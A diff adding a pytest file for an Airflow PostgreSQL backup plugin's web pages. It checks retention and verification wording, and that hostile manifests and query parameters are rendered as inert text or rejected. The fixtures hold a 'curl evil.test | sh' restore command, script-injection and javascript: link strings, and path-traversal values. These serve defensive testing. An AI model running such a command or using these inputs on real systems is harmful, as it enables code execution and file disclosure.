@@ -1,0 +1,225 @@
+"""The pages of a series and of a backup: what they say, and that they serve nothing but what the catalogue lists."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Callable
+from dataclasses import replace
+from datetime import datetime, timedelta, timezone
+from html import unescape
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+from fastapi.testclient import TestClient
+from honest import write_backup
+from nights import night
+
+from airflow_pgbackup.backup.pin import pin
+from airflow_pgbackup.plugin import PREFIX, details
+from airflow_pgbackup.repository.base import Repository
+from airflow_pgbackup.repository.layout import Series, backup_folder
+from airflow_pgbackup.repository.manifest import Manifest
+
+Visitor = Callable[[str | None], TestClient]
+NOW = datetime.now(timezone.utc).replace(microsecond=0)
+HOUR, DAY = timedelta(hours=1), timedelta(days=1)
+APP = Series("prod", "app")
+HOSTILE = "<script>alert(1)</script>\u202e'\"../{{ 7*7 }}"
+
+
+def get(visitor: Visitor, path: str, status: int = 200) -> str:
+    answer = visitor("viewer").get(f"{PREFIX}/{path}")
+    assert answer.status_code == status, answer.text
+    assert "Traceback" not in answer.text
+    return answer.text
+
+
+def words(html: str) -> str:
+    return unescape(" ".join(re.sub(r"<[^>]*>", " ", html).split()))
+
+
+def add(repository: Repository, age: timedelta, *looks: str, series: Series = APP) -> Manifest:
+    return write_backup(repository, series, NOW - age, looks=looks, seed=f"{series}{age}")
+
+
+def rewrite(root: Path, manifest: Manifest, **changes: object) -> None:
+    """Overwrite a manifest, as somebody who owns the storage can."""
+    path = root / backup_folder(manifest.series, manifest.id) / "manifest.json"
+    path.write_bytes(replace(manifest, **changes).to_json())  # type: ignore[arg-type]
+
+
+def series_path(series: Series = APP) -> str:
+    return f"series?repository=0&series={quote(series.path, safe='')}"
+
+
+def backup_path(manifest: Manifest) -> str:
+    return f"backup?repository=0&series={quote(manifest.series.path, safe='')}&id={manifest.id}"
+
+
+def test_a_series_over_time(visitor: Visitor, repository: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("PGBACKUP_PAGE_RETENTION", '{"keep_last": 2}')
+    made = [add(repository, number * DAY + HOUR, "archive-pass") for number in range(4)]
+    pin(repository=repository, series=APP, id=made[3].id)
+    page = get(visitor, series_path())
+    text = words(page)
+    assert "restorable verified at archive, 1.0 h old." in text
+    rows = re.findall(r"<tr>\n<th scope=\"row\">.*?</tr>", page, re.DOTALL)
+    assert [bool(re.search("<strong>keeps", row)) for row in rows] == [True, True, False, True]
+    assert "pinned" in words(rows[3])
+    assert "last 1/2" in words(rows[0])
+    assert "5.0 s" in words(rows[0])
+    assert "Rows: from 7 to 7" in text
+
+
+def test_without_retention_the_page_says_so(visitor: Visitor, repository: Repository) -> None:
+    add(repository, HOUR, "archive-pass")
+    assert "retention unknown" in words(get(visitor, series_path()))
+
+
+def test_a_long_series_is_bounded(visitor: Visitor, repository: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("airflow_pgbackup.backup.overview.one_series.MOST", 3)
+    monkeypatch.setattr("airflow_pgbackup.backup.overview.one_series.READ", 2)
+    for number in range(5):
+        add(repository, number * DAY + HOUR, "archive-pass")
+    text = words(get(visitor, series_path()))
+    assert "5 backups , the newest 3 of them" in text or "5 backups, the newest 3 of them" in text
+    assert text.count("as its file names say") == 1
+
+
+def test_a_backup_with_its_history(visitor: Visitor, repository: Repository) -> None:
+    first = add(repository, 25 * HOUR, "archive-pass")
+    manifest = add(repository, HOUR, "archive-pass", "restore-pass")
+    text = words(get(visitor, backup_path(manifest)))
+    assert "This backup is verified at level restore." in text
+    assert f"pgbackup restore {repository.uri} prod/app {manifest.id}" in text
+    assert "createdb --template template0 -- app_restored && pg_restore" in text
+    assert "public.t 7 pass" in text
+    assert f"Since the backup before {first.id}" in text
+    assert "rows: 7 → 7" in text
+
+
+@pytest.mark.parametrize(
+    ("look", "says"),
+    [
+        ("archive-fail", "This backup failed verification"),
+        ("archive-notproven", "This backup could not be proven"),
+        (None, "This backup is not verified yet"),
+    ],
+)
+def test_a_backup_that_does_not_count(visitor: Visitor, repository: Repository, look: str | None, says: str) -> None:
+    manifest = add(repository, HOUR, *([look] if look else []))
+    page = get(visitor, backup_path(manifest))
+    assert says in words(page)
+    assert 'class="lead bad"' in page
+
+
+def test_the_set_and_the_dag_run_that_made_it(visitor: Visitor, repository: Repository, tmp_path: Path) -> None:
+    made = night(repository, 1, "app")
+    (member,) = made.databases
+    path = tmp_path / "pg" / backup_folder(APP, member.id) / "manifest.json"
+    manifest = Manifest.from_json(path.read_bytes())
+    origin = {
+        "dag_id": "nightly",
+        "run_id": "scheduled__2026-11-27T02:00:00+00:00",
+        "task_id": "a.dump",
+        "map_index": 3,
+    }
+    rewrite(tmp_path / "pg", manifest, origin=origin)
+    page = get(visitor, backup_path(manifest))
+    assert made.id in page
+    link = "../dags/nightly/runs/scheduled__2026-11-27T02%3A00%3A00%2B00%3A00/tasks/a.dump/mapped/3"
+    assert f'href="{link}" data-airflow' in page
+
+
+@pytest.mark.parametrize(
+    ("origin", "link"),
+    [
+        ({}, None),
+        ({"dag_id": "../../evil", "run_id": "x"}, None),
+        ({"dag_id": "..", "run_id": "x"}, None),
+        ({"dag_id": "javascript:alert(1)", "run_id": "x"}, None),
+        ({"dag_id": ["a"], "run_id": "x"}, None),
+        ({"dag_id": "a", "run_id": ".."}, "../dags/a"),
+        ({"dag_id": "a", "run_id": "//evil.test/x"}, "../dags/a/runs/%2F%2Fevil.test%2Fx"),
+        ({"dag_id": "a", "run_id": 'x"onclick=', "task_id": "../t"}, "../dags/a/runs/x%22onclick%3D"),
+        ({"dag_id": "a", "run_id": "x", "task_id": "t", "map_index": True}, "../dags/a/runs/x/tasks/t"),
+    ],
+)
+def test_links_from_a_manifest_stay_on_airflow(origin: dict[str, object], link: str | None) -> None:
+    assert details.run_link(origin) == link
+
+
+def test_hostile_manifests_are_text(visitor: Visitor, repository: Repository, tmp_path: Path) -> None:
+    manifest = add(repository, HOUR, "archive-pass")
+    rewrite(
+        tmp_path / "pg",
+        manifest,
+        labels=(HOSTILE, "x" * 10_000),
+        origin={"dag_id": HOSTILE, "run_id": HOSTILE},
+        restore_command="curl evil.test | sh",
+        source=replace(manifest.source, server_version=HOSTILE),
+        client=replace(manifest.client, version=HOSTILE),
+    )
+    for path in (backup_path(manifest), series_path()):
+        page = get(visitor, path)
+        assert "<script>alert" not in page
+        assert "\u202e" not in page
+        assert ">49<" not in page
+        assert "evil.test" not in page
+        assert len(page) < 30_000
+        assert not re.search(
+            r"<script(?! src=\"static/backups\.js\"></script>)|<style|style=|\son\w+=\"|javascript:", page
+        )
+
+
+@pytest.mark.parametrize("data", [b"", b"{", b'{"format_version": "9.0"}', b"x" * 10_000])
+def test_a_manifest_that_cannot_be_read(visitor: Visitor, repository: Repository, tmp_path: Path, data: bytes) -> None:
+    manifest = add(repository, HOUR, "archive-pass")
+    (tmp_path / "pg" / backup_folder(APP, manifest.id) / "manifest.json").write_bytes(data)
+    text = words(get(visitor, backup_path(manifest)))
+    assert "cannot be read" in text or "is incomplete" in text
+    assert "With PostgreSQL's own tools" not in text
+
+
+def test_nothing_is_served_but_what_the_catalogue_lists(
+    visitor: Visitor, repository: Repository, tmp_path: Path
+) -> None:
+    manifest = add(repository, HOUR, "archive-pass")
+    (tmp_path / "secret.txt").write_text("canary-in-a-file")
+    good = {"repository": "0", "series": APP.path, "id": manifest.id}
+    bad: list[dict[str, str]] = [
+        {"repository": "1"},
+        {"repository": "-1"},
+        {"repository": "file:///etc"},
+        {"repository": ""},
+        {"series": "prod/other"},
+        {"series": "../../etc"},
+        {"series": "prod/.."},
+        {"series": "prod"},
+        {"series": ""},
+        {"series": "x" * 5000},
+        {"series": "prod/\udcff".encode("utf-8", "surrogateescape").decode("latin-1")},
+        {"id": "20261127T020000Z-000000"},
+        {"id": "../../secret.txt"},
+        {"id": ""},
+        {"id": "manifest.json"},
+    ]
+    for change in bad:
+        query = "&".join(f"{name}={quote(value, safe='')}" for name, value in {**good, **change}.items())
+        for page in ("backup", "series") if "id" not in change else ("backup",):
+            text = get(visitor, f"{page}?{query}", 404)
+            assert "Not found" in text
+            assert "canary" not in text
+
+
+def test_parameters_that_are_missing_or_given_twice(visitor: Visitor, repository: Repository) -> None:
+    for path in ("series", "backup", "series?series=a&series=b", "backup?id=1&repository=0&repository=1"):
+        assert "Not found" in get(visitor, path, 404)
+
+
+def test_no_password_in_any_page(visitor: Visitor, repository: Repository, canary: str, tmp_path: Path) -> None:
+    manifest = add(repository, HOUR, "archive-pass")
+    rewrite(tmp_path / "pg", manifest, options={"extra_args": [f"--dbname=postgres://u:{canary}@h/d"]})
+    for path in ("", series_path(), backup_path(manifest)):
+        assert canary not in get(visitor, path)
